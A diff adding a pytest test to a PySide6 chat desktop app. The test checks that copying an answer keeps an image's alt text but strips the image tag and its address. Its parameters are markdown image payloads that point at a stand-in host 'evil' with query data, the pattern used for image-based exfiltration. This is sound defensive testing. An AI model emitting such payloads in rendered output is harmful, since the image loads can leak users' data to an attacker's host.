@@ -5,8 +5,10 @@ import random
 import pytest
 from PySide6.QtCore import QUrl
 from PySide6.QtGui import QGuiApplication, QImage, QTextDocument
+from PySide6.QtWidgets import QWidget
 from pytestqt.qtbot import QtBot
 
+from qhub_desktop.ui.chat.answer import AnswerView
 from qhub_desktop.ui.chat.streaming import StreamedText
 from qhub_desktop.ui.chat.text_views import MarkdownView
 from qhub_desktop.ui.theme import DARK, theme
@@ -127,6 +129,39 @@ def test_a_picture_in_the_text_is_not_looked_for(qtbot: QtBot) -> None:
     found = view.document().resource(image, QUrl("//elsewhere/share/b.png"))
     assert isinstance(found, QImage)
     assert (found.width(), found.height()) == (1, 1)
+
+
+@pytest.mark.parametrize(
+    "picture",
+    [
+        "![rack 12](http://evil/?rows=1)",
+        "![rack *12*](<http://evil/?rows=1> 'title')",
+        "![rack 12][there]\n\n[there]: http://evil/?rows=1",
+        "[![rack 12](http://evil/?rows=1)](#go)",
+        "- ![rack 12](http://evil/1)\n- ![](http://evil/2)",
+        "| a |\n|---|\n| ![rack 12](http://evil/?rows=1) |",
+        "> # ![rack 12](//evil/share)![](file://evil/x)",
+    ],
+)
+def test_what_is_copied_of_an_answer_has_a_pictures_name_but_not_its_address(
+    qtbot: QtBot, picture: str
+) -> None:
+    answer = AnswerView(make_card=lambda _widget: QWidget())
+    qtbot.addWidget(answer)
+    answer.show_text(f"Veja {picture}")
+    (view,) = answer.views
+    view.selectAll()
+    view.copy()
+    selected = QGuiApplication.clipboard().mimeData().html()
+
+    answer._copy()
+
+    for copied in (selected, QGuiApplication.clipboard().mimeData().html()):
+        assert "<img" not in copied
+        assert "evil" not in copied
+        shown = QTextDocument()
+        shown.setHtml(copied)
+        assert "rack 12" in shown.toPlainText()
 
 
 def test_a_selection_survives_more_words(qtbot: QtBot) -> None:
